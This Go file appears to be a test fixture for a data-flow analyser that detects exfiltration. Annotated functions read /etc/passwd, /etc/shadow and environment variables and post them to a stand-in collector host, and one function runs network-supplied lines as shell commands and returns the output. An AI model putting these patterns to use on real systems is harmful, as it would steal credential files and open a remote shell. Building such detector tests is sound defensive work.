package main

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
)

const url = "https://collector.example/u"

// A file is copied to a connection.
func copied(c net.Conn) {
	f, err := os.Open("/etc/passwd") //~ source(FILE) s1
	if err != nil {
		return
	}
	defer f.Close()
	io.Copy(c, f) //~ sink(egress.socket) s1, finding(traced) s1
}

func copiedText(c net.Conn) {
	io.Copy(c, strings.NewReader("ping")) //~ ok
}

func copiedHere() {
	f, _ := os.Open("/etc/passwd") //~ ok
	io.Copy(os.Stdout, f)          //~ ok
}

// Readers around readers.
func lines() {
	f, _ := os.Open("/etc/shadow") //~ source(FILE) s2
	scanner := bufio.NewScanner(bufio.NewReader(f))
	for scanner.Scan() {
		http.Get(url + scanner.Text()) //~ sink(egress.http) s2, finding(traced) s2
	}
}

func linesOfText() {
	scanner := bufio.NewScanner(strings.NewReader("a\nb"))
	for scanner.Scan() {
		http.Get(url + scanner.Text()) //~ ok
	}
}

// Writers around writers.
func compressed(c net.Conn) {
	data, _ := os.ReadFile("/etc/hosts") //~ source(FILE) s3
	w := gzip.NewWriter(c)
	w.Write(data) //~ sink(egress.socket) s3, finding(traced) s3
	w.Close()
}

func compressedHere() {
	data, _ := os.ReadFile("/etc/hosts") //~ ok
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write(data)
	w.Close()
}

func buffered() {
	data, _ := os.ReadFile("/etc/group") //~ source(FILE) s4
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write(data)
	w.Close()
	http.Post(url, "application/gzip", &b) //~ sink(egress.http) s4, finding(traced) s4
	var empty bytes.Buffer
	http.Post(url, "application/gzip", &empty) //~ ok
}

// A form is built around a file and posted.
func form() {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) s5
	body := new(bytes.Buffer)
	w := multipart.NewWriter(body)
	part, _ := w.CreateFormFile("file", "x")
	io.Copy(part, f)
	w.Close()
	req, _ := http.NewRequest("POST", url, body)
	req.Header.Set("Content-Type", w.FormDataContentType())
	client := &http.Client{}
	client.Do(req) //~ sink(egress.http) s5, finding(traced) s5
}

func formOfText() {
	body := new(bytes.Buffer)
	w := multipart.NewWriter(body)
	part, _ := w.CreateFormFile("file", "x")
	part.Write([]byte("x"))
	w.Close()
	req, _ := http.NewRequest("POST", url, body)
	http.DefaultClient.Do(req) //~ ok
}

// What one end of a pipe takes the other gives.
func piped() {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) s6
	r, w := io.Pipe()
	go func() {
		io.Copy(w, f)
		w.Close()
	}()
	http.Post(url, "text/plain", r) //~ sink(egress.http) s6, finding(traced) s6
}

func pipedApart() {
	f, _ := os.Open("/etc/passwd") //~ ok
	_, w := io.Pipe()
	r, _ := io.Pipe()
	go func() {
		io.Copy(w, f)
		w.Close()
	}()
	http.Post(url, "text/plain", r) //~ ok
}

// Structures that are sent.
type report struct {
	Host string `json:"host"`
	Data string `json:"data"`
}

func marshalled() {
	data, _ := os.ReadFile("/etc/hostname") //~ source(FILE) s7
	rep := report{Data: base64.StdEncoding.EncodeToString(data)}
	text, err := json.Marshal(rep)
	if err != nil {
		return
	}
	http.Post(url, "application/json", bytes.NewReader(text)) //~ sink(egress.http) s7, finding(traced) s7
	other, _ := json.Marshal(report{Host: "x"})
	http.Post(url, "application/json", bytes.NewReader(other)) //~ ok
}

func encoded() {
	data, _ := os.ReadFile("/etc/hostname") //~ source(FILE) s8
	var b bytes.Buffer
	json.NewEncoder(&b).Encode(report{Data: string(data)})
	http.Post(url, "application/json", &b) //~ sink(egress.http) s8, finding(traced) s8
}

// Commands of a server are run, what they print goes back.
func commands(c net.Conn) {
	r := bufio.NewReader(c)
	for {
		line, err := r.ReadString('\n') //~ source(NETWORK) s9
		if err != nil {
			return
		}
		out, _ := exec.Command("sh", "-c", strings.TrimSpace(line)).CombinedOutput() //~ sink(exec.command) s9, finding(traced) s9, source(COMMAND_OUTPUT) s10
		c.Write(out)                                                                  //~ sink(egress.socket) s10, finding(traced) s10
	}
}

func command() {
	out, _ := exec.Command("sh", "-c", "date").Output() //~ ok
	_ = out
}

// A reader of one's own around a file.
type counting struct {
	io.Reader
	n int
}

func (c *counting) Count() int { return c.n }

func wrapped() {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) s11
	c := &counting{Reader: f}
	http.Post(url, "text/plain", c) //~ sink(egress.http) s11, finding(traced) s11
}

func wrappedText() {
	c := &counting{Reader: strings.NewReader("x")}
	http.Post(url, "text/plain", c) //~ ok
}

// A client that is a field.
type uploader struct {
	client *http.Client
	token  string
}

func newUploader() *uploader {
	return &uploader{client: &http.Client{}, token: "x"}
}

func (u *uploader) send(r io.Reader) error {
	req, err := http.NewRequest(http.MethodPut, url, r)
	if err != nil {
		return err
	}
	req.Header.Set("Authorization", u.token)
	resp, err := u.client.Do(req) //~ sink(egress.http) s12, finding(traced) s12
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	return nil
}

func (u *uploader) ping() {
	req, _ := http.NewRequest(http.MethodGet, url, nil)
	u.client.Do(req) //~ ok
}

func upload() {
	f, err := os.Open("/etc/passwd") //~ source(FILE) s12
	if err != nil {
		http.Get(url + err.Error()) //~ ok
		return
	}
	newUploader().send(f)
	newUploader().ping()
}

// What an inner function writes into a variable of the outer one is there.
func filledInside() {
	var b bytes.Buffer
	var other bytes.Buffer
	func() {
		b.WriteString(os.Getenv("T")) //~ source(ENVIRONMENT) s13
	}()
	http.Post(url, "text/plain", &b)     //~ sink(egress.http) s13, finding(traced) s13
	http.Post(url, "text/plain", &other) //~ ok
}
